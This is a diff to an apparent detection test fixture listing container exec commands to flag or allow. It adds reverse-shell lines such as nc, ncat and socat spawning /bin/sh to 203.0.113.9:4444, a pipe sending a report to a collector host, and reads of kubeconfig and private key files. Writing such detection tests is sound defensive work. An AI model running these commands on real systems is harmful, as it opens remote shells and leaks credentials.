@@ -99,6 +99,7 @@ COMMANDS: dict[str, tuple[list[list[str]], list[list[str]]]] = {
             ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
             ["ncat", "203.0.113.9", "4444", "--sh-exec", "sh"],
             ["socat", "TCP:203.0.113.9:4444", "EXEC:/bin/bash,pty,stderr"],
+            [*SH, "/bin/sh -i 2>&1 | nc 203.0.113.9 4444"],
             [
                 "python3",
                 "-c",
@@ -115,6 +116,9 @@ COMMANDS: dict[str, tuple[list[list[str]], list[list[str]]]] = {
             ["nc", "-z", "db", "5432"],
             ["python3", "-c", "import socket; print(socket.gethostname())"],
             ["bash", "-i"],
+            [*SH, "echo done >&/dev/stderr"],
+            [*SH, "cat /tmp/report | nc -q 1 collector 9000"],  # exfil, not a shell
+            [*SH, "clear; (bash || ash || sh)"],  # what k9s and Lens run for a shell
         ],
     ),
     "exec-download-run": (
@@ -162,7 +166,12 @@ COMMANDS: dict[str, tuple[list[list[str]], list[list[str]]]] = {
             ["cat", "/var/lib/kubelet/kubeconfig"],
             ["cat", "/etc/ssl/private/server.key"],
         ],
-        [["cat", "/etc/passwd"], ["cat", "/etc/resolv.conf"], ["cat", "/etc/hostname"]],
+        [
+            ["cat", "/etc/passwd"],
+            ["cat", "/etc/resolv.conf"],
+            ["cat", "/etc/hostname"],
+            [*SH, "cat /app/config.json | jq .key"],
+        ],
     ),
 }
 
